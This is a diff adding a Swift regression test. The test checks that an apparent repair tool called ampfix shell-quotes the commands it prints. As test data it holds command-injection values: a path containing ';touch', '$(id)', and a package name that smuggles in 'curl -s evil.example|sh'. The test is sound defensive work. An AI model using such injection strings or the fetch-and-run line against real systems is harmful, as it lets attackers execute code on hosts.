@@ -1,4 +1,5 @@
 import AmpfixCore
+import AmpfixSystem
 import AmpfixTestSupport
 import Foundation
 import Glibc
@@ -53,6 +54,32 @@ import Testing
         #expect(result.stdout.contains("/opt/cisco/amp: mode 0700"))
         #expect(result.stdout.contains("/opt/cisco/amp/lib/planted: symbolic link, not followed"))
         #expect(result.stdout.contains("Repair with: ampfix --root \(sample.path) --fault 5"))
+    }
+
+    /// Every command ampfix prints is quoted word by word: a root (or package, store, path)
+    /// with a space, a semicolon or a quote in it runs as printed and nothing else. Before, the
+    /// "Repair with:" line of a root named `a b;touch X` ran `touch X`.
+    @Test func aPrintedCommandRunsWhatItSays() throws {
+        let parent = TempRoot("quoted")
+        let marker = parent.at("ran")
+        let root = parent.at("a b;touch \(marker);c'd")
+        let built = try Command.run("/bin/bash", [PackageLayout.root + "/scripts/sample-host.sh", root])
+        try #require(built.status == 0, "\(built.stderr)")
+        let result = try AmpfixBinary.run(["--root", root])
+        #expect(result.status == 1, "\(result.stderr)")
+        let line = try #require(result.stdout.split(separator: "\n").first { $0.contains("Repair with: ") })
+        let command = try #require(line.components(separatedBy: "Repair with: ").last?.components(separatedBy: " (preview").first)
+        #expect(command.hasPrefix("ampfix --root "), "\(command)")
+        let sh = try #require(Programs.locate("sh"))
+        let run = try Command.run(sh, ["-c", AmpfixBinary.path + command.dropFirst("ampfix".count) + " --dry-run --json"])
+        #expect(run.status == 0 || run.status == 1, "\(command): \(run.stderr)")
+        #expect(try report(run).root == root, "\(run.stdout.prefix(400))")
+        #expect(access(marker, F_OK) != 0, "the printed command ran something else")
+        // Words come back from a shell as they went in.
+        let words = ["apt-get", "install", "-y", "linux-headers-9.9.9-x;curl -s evil.example|sh;#", "it's", "", "$(id)", "plain-1.2_3"]
+        let echoed = try Command.run(sh, ["-c", "printf '%s\\n' " + ShellCommand.line(words)])
+        #expect(echoed.stdout == words.map { $0 + "\n" }.joined(), "\(ShellCommand.line(words))")
+        #expect(ShellCommand.line(["dnf", "install", "-y", "kernel-devel-5.14.0"]) == "dnf install -y kernel-devel-5.14.0")
     }
 
     @Test func jsonReportIsVersionedAndHonestAboutUnwrittenChecks() throws {
